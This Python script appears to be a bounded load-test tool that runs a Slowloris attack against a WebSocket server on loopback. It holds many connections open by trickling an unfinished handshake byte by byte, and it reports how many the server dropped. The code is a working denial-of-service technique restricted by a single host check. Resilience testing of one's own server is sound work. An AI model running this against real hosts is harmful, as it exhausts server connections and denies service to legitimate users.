#!/usr/bin/python3
"""Slowloris against a WebSocket server: many connections that send the opening handshake a byte at a time and
never finish it, reopened whenever the server drops them. Bounded in connections and time; loopback only.

Usage: bench/load/slowloris.py HOST PORT [--connections N] [--seconds S] [--interval S]
Prints one JSON line at the end: how many were opened, dropped by the server, and still open.
"""
import argparse
import asyncio
import json

HEAD = b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"


async def trickle(host, port, stop_at, interval, stats):
    loop = asyncio.get_running_loop()
    while loop.time() < stop_at:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats["refused"] += 1
            await asyncio.sleep(interval)
            continue
        stats["opened"] += 1
        stats["open"] += 1
        stats["peakOpen"] = max(stats["peakOpen"], stats["open"])
        try:
            sent = 0
            while loop.time() < stop_at:
                # One byte of a head that never ends, then a header line of padding forever.
                writer.write(HEAD[sent:sent + 1] if sent < len(HEAD) else b"X")
                sent += 1
                await writer.drain()
                try:
                    data = await asyncio.wait_for(reader.read(1024), timeout=interval)
                    if data == b"" or data:
                        stats["dropped"] += 1
                        break
                except asyncio.TimeoutError:
                    pass
        except (OSError, ConnectionError):
            stats["dropped"] += 1
        finally:
            stats["open"] -= 1
            writer.close()


async def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--connections", type=int, default=3000)
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--interval", type=float, default=1.0)
    args = parser.parse_args()
    if args.host not in ("127.0.0.1", "localhost", "::1"):
        parser.error("loopback only")
    stats = {"opened": 0, "dropped": 0, "refused": 0, "open": 0, "peakOpen": 0}
    stop_at = asyncio.get_running_loop().time() + args.seconds
    tasks = []
    for _ in range(args.connections):
        tasks.append(asyncio.create_task(trickle(args.host, args.port, stop_at, args.interval, stats)))
        await asyncio.sleep(0.001)
    await asyncio.gather(*tasks)
    del stats["open"]
    print(json.dumps({"connections": args.connections, "seconds": args.seconds, **stats}))


asyncio.run(main())
